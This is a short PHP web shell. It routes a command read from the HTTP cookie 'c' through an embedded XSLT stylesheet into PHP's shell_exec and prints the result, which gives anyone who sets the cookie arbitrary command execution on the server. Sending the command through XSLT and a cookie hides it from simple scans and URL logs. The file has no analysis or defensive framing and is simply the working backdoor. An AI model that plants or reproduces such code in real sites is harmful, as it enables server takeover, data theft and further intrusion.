<?php
// The stylesheet is the script's own, the command comes from a cookie as an XML parameter.
$s = <<<XSL
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">
<xsl:param name="c"/>
<xsl:template match="/"><xsl:value-of select="php:function( 'shell_exec' , \$c)"/></xsl:template>
</xsl:stylesheet>
XSL;
$x = new XSLTProcessor(); $x->registerPHPFunctions();
$d = new DOMDocument(); $d->loadXML($s); $x->importStylesheet($d);
$x->setParameter('', 'c', @$_COOKIE['c']);
print $x->transformToXml(new DOMDocument());
